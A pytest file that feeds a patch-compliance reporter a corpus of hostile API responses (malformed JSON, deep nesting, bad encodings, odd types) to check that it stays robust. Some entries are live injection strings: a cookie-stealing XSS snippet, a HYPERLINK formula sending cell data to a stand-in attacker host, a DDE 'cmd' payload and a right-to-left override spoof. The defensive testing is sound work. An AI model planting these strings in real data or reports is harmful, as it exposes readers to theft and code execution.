"""Hostile API responses (SPEC 1 tolerances, SPEC 7) served by the simulator through `reporter run`.

Each response of the corpus below is served with status 200 for one execution of the
inventory. The run must exit 0 or 3 (never 1), print no traceback, and the execution must end
as data (the Executions sheet) or as a listed problem (the Problems sheet).
"""

import csv
import io
import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest
from readers import sheet_rows

from reporter.cli import main
from reporter.simulator import Fleet, SimulatorServer

SERVER = "VA1OSDHOST01"
JSON = "application/json"


def patch(title: str = "Installing Security Update for Windows (KB3135998)", **fields) -> dict:
    return {
        "patch_begin_message": title,
        "patch_end_message": "Result Code: 2",
        "status": "completed",
        "start_time": "2026-10-14T03:00:00Z",
        "end_time": "2026-10-14T03:05:00Z",
        **fields,
    }


def execution(execution_id: str = "VA1-100001", **fields) -> dict:
    return {
        "execution_id": execution_id,
        "status": "completed",
        "start_time": "2026-10-14T03:00:00Z",
        "end_time": "2026-10-14T03:10:00Z",
        "duration": "10m 0s",
        "patches": [patch()],
        **fields,
    }


def encoded(value) -> bytes:
    return json.dumps(value).encode()


def nested(depth: int, inner: bytes = b"") -> bytes:
    return b"[" * depth + inner + b"]" * depth


SCRIPT = "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://attacker.invalid/?"&A1,"Click")'


@dataclass(frozen=True)
class Payload:
    """One hostile response, and optionally a check of how the report shows it."""

    body: bytes
    content_type: str = JSON
    check: Callable[[list[dict], list[dict], list[dict]], None] | None = None  # patches,
    # executions, problems of the run


def problem_kind(kind: str) -> Callable:
    def check(patches, executions, problems):
        assert kind in {p["Kind"] for p in problems}

    return check


def patch_rows(count: int) -> Callable:
    def check(patches, executions, problems):
        assert len(patches) == count

    return check


def title_kept(length: int) -> Callable:
    def check(patches, executions, problems):
        assert [len(row["title"]) for row in patches] == [length]

    return check


CORPUS: dict[str, Payload] = {
    "wrong_types": Payload(
        encoded(
            execution(
                status=5, start_time=[], end_time={}, duration=True, execution_id=123, patches=[7]
            )
        )
    ),
    "missing_keys": Payload(b"{}"),
    "nulls_everywhere": Payload(
        encoded(
            dict.fromkeys(
                ["execution_id", "status", "start_time", "end_time", "duration", "patches"]
            )
        )
    ),
    "null_patch_fields": Payload(
        encoded(execution(patches=[None, dict.fromkeys(patch()), {}, []]))
    ),
    "title_of_one_megabyte": Payload(
        encoded(execution(patches=[patch("Installing " + "A" * 1_000_000)])),
        check=title_kept(1_000_000),
    ),
    "nesting_10000_arrays": Payload(nested(10_000), check=problem_kind("not JSON")),
    "nesting_10000_objects": Payload(
        b'{"a":' * 10_000 + b"1" + b"}" * 10_000, check=problem_kind("not JSON")
    ),
    "nesting_10000_in_patches": Payload(
        b'{"execution_id": "VA1-100001", "patches": ' + nested(10_000) + b"}",
        check=problem_kind("not JSON"),
    ),
    "nesting_900_in_patches": Payload(
        b'{"execution_id": "VA1-100001", "status": "completed", "patches": '
        + nested(900, b'{"a": 1}')
        + b"}"
    ),
    "non_utf8_bytes": Payload(
        b'{"execution_id": "VA1-100001", "status": "compl\xe9t\xff\xfe"}',
        check=problem_kind("not JSON"),
    ),
    "html_error_page": Payload(
        b"<!DOCTYPE html><html><body><h1>Service Unavailable</h1></body></html>",
        "text/html",
        check=problem_kind("not JSON"),
    ),
    "patches_as_number": Payload(encoded(execution(patches=7))),
    "patches_as_string": Payload(encoded(execution(patches="seven"))),
    "patches_as_digit_string": Payload(encoded(execution(patches="12"))),
    "patches_as_dict": Payload(encoded(execution(patches={"KB3135998": "Result Code: 2"}))),
    "patches_mixed_items": Payload(encoded(execution(patches=[1, "x", None, patch(), [], True]))),
    "keys_in_different_case": Payload(
        b'{"execution_id": "VA1-100001", "Status": "failed", "STATUS": "completed", '
        b'"patches": [], "Patches": 3, "PATCHES": "x"}'
    ),
    "duplicate_keys": Payload(
        b'{"execution_id": "VA1-100001", "status": "failed", "status": "completed", '
        b'"patches": [], "patches": [' + encoded(patch()) + b"]}"
    ),
    "script_in_titles": Payload(
        encoded(execution(patches=[patch(SCRIPT), patch("Installing " + SCRIPT + " (KB1234567)")]))
    ),
    "formula_in_titles": Payload(
        encoded(execution(patches=[patch(FORMULA), patch("+cmd|' /C calc'!A0", status="@x")]))
    ),
    "empty_body": Payload(b"", check=problem_kind("not JSON")),
    "json_null": Payload(b"null", check=problem_kind("bad payload")),
    "json_list": Payload(encoded([execution()]), check=problem_kind("bad payload")),
    "json_string": Payload(b'"completed"', check=problem_kind("bad payload")),
    "numbers_as_strings": Payload(
        encoded(
            execution(
                duration="1204",
                patches=[patch(patch_end_message="2"), patch(patch_end_message=4, status=1)],
            )
        )
    ),
    "times_in_odd_forms": Payload(
        encoded(
            execution(
                start_time=1_760_410_800,
                end_time="14/10/2026 03:10",
                patches=[
                    patch(start_time="now", end_time="2026-13-45T99:99:99Z"),
                    patch(start_time="0001-01-01T00:00:00Z", end_time="9999-12-31T23:59:59+14:00"),
                    patch(start_time="2026-10-14T03:00:00+25:00", end_time="today"),
                    patch(start_time="20261014T030000Z", end_time=" "),
                ],
            )
        )
    ),
    "negative_durations": Payload(
        encoded(
            execution(
                duration="-5m",
                start_time="2026-10-14T03:10:00Z",
                end_time="2026-10-14T03:00:00Z",
                patches=[patch(start_time="2026-10-14T03:05:00Z", end_time="2026-10-14T03:00:00Z")],
            )
        )
    ),
    # 10,000 attempts of 100 distinct patches: the PDF's patch roll-up has a row per distinct
    # patch, and a fleet has hundreds of those, not thousands.
    "ten_thousand_patches": Payload(
        encoded(
            execution(
                patches=[patch(f"Installing Update (KB{4000000 + n % 100})") for n in range(10_000)]
            )
        ),
        check=patch_rows(10_000),
    ),
    "nan_and_infinity": Payload(
        b'{"execution_id": "VA1-100001", "status": "completed", "duration": NaN, '
        b'"patches": Infinity, "start_time": -Infinity}'
    ),
    "integer_of_5000_digits": Payload(
        b'{"execution_id": "VA1-100001", "patches": ' + b"9" * 5000 + b"}",
        check=problem_kind("not JSON"),
    ),
    "lone_surrogates": Payload(
        b'{"execution_id": "VA1-100001", "status": "\\ud800", "\\udfffkey": 1, "patches": '
        b'[{"patch_begin_message": "Installing \\udc00 (KB1234567)", '
        b'"patch_end_message": "Result Code: 2"}]}'
    ),
    "nul_and_control_characters": Payload(
        encoded(execution(status="comp\x00leted", patches=[patch("Installing \x00\x1b[31m\x07x")]))
    ),
    "byte_order_mark": Payload(b"\xef\xbb\xbf" + encoded(execution())),
    "utf16_json": Payload(json.dumps(execution()).encode("utf-16")),
    "another_execution": Payload(encoded(execution("VA1-999999"))),
    "xml_body": Payload(b"<?xml version='1.0'?><execution/>", "application/xml"),
    "ten_thousand_keys": Payload(encoded({**execution(), **{f"k{n}": n for n in range(10_000)}})),
    "hresult_oddities": Payload(
        encoded(
            execution(
                patches=[
                    patch(patch_end_message="Result Code: 4, HResult: 0xFFFFFFFFFFFF"),
                    patch(patch_end_message="Result Code: 4 (-99999999999)"),
                    patch(patch_end_message="Result Code: 99999999999999999999"),
                    patch(patch_end_message="Result Code: -1 0x8024"),
                ]
            )
        )
    ),
    "unicode_titles": Payload(
        encoded(execution(patches=[patch("Installing \u202eexe.gpj \U0001f600 Z\u0351\u0337")]))
    ),
}


@pytest.fixture(scope="module")
def sim() -> SimulatorServer:
    with SimulatorServer(Fleet.generate(servers=1, executions_per_server=1, seed=1)) as server:
        yield server


def serve(sim: SimulatorServer, names: list[str], inventory: Path) -> dict[str, str]:
    """Serve each named payload for its own execution; return execution ID by name."""
    ids = {name: f"VA1-{200000 + n}" for n, name in enumerate(names)}
    for name, execution_id in ids.items():
        payload = CORPUS[name]
        sim.fleet.override("OSD", SERVER, execution_id, payload.body, 200, payload.content_type)
    lines = ["server_id,execution_id,account_alias"]
    lines += [f"{SERVER},{execution_id},OSD" for execution_id in ids.values()]
    inventory.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return ids


def run(sim, inventory: Path, out: Path, formats: str) -> int:
    argv = ["run", str(inventory), "--out", str(out), "--format", formats, "--retries", "1"]
    argv += ["--api-url", sim.api_url, "--login-url", sim.login_url]
    return main(argv, stdout=io.StringIO())


def test_corpus_size():
    assert len(CORPUS) >= 25


@pytest.mark.parametrize("name", sorted(CORPUS))
def test_hostile_payload(name, sim, tmp_path, credentials, capsys):
    [execution_id] = serve(sim, [name], tmp_path / "inventory.csv").values()
    code = run(sim, tmp_path / "inventory.csv", tmp_path / "out", "csv,xlsx")
    err = capsys.readouterr().err
    assert code in (0, 3), err
    assert "Traceback" not in err and "internal error" not in err

    [xlsx] = (tmp_path / "out").glob("patch-compliance-*.xlsx")
    workbook = openpyxl.load_workbook(xlsx, read_only=True)
    executions = sheet_rows(workbook, "Executions")
    problems = sheet_rows(workbook, "Problems")
    workbook.close()
    [csv_path] = (tmp_path / "out").glob("patch-compliance-*.csv")
    limit = csv.field_size_limit(4 << 20)  # the 1 MB title is one field
    try:
        with csv_path.open(encoding="utf-8", newline="") as handle:
            patches = list(csv.DictReader(handle))
    finally:
        csv.field_size_limit(limit)
    as_data = any(row["Execution ID"] == execution_id for row in executions)
    as_problem = [row for row in problems if row["Execution ID"] == execution_id]
    print(
        f"\n{name}: exit {code}; {'data' if as_data else 'not data'}, "
        f"{len(patches)} patch rows; problems: {[p['Kind'] for p in as_problem]}"
    )
    assert as_data or as_problem
    assert (code == 3) == bool(problems)
    check = CORPUS[name].check
    if check is not None:
        check(patches, executions, problems)


@pytest.mark.slow
def test_whole_corpus_in_one_run_in_every_format(sim, tmp_path, credentials, capsys):
    names = sorted(CORPUS)
    ids = serve(sim, names, tmp_path / "inventory.csv")
    code = run(sim, tmp_path / "inventory.csv", tmp_path / "out", "html,pdf,xlsx,csv")
    err = capsys.readouterr().err
    assert code == 3, err
    assert "Traceback" not in err
    reports = [p for p in (tmp_path / "out").glob("patch-compliance-*") if p.suffix != ".sha256"]
    assert len(reports) == 4
    workbook = openpyxl.load_workbook(
        next((tmp_path / "out").glob("patch-compliance-*.xlsx")), read_only=True
    )
    seen = {row["Execution ID"] for row in sheet_rows(workbook, "Executions")}
    seen |= {row["Execution ID"] for row in sheet_rows(workbook, "Problems")}
    workbook.close()
    assert set(ids.values()) <= seen
    print(f"\n{len(names)} hostile payloads in one run: exit {code}, every one accounted for")
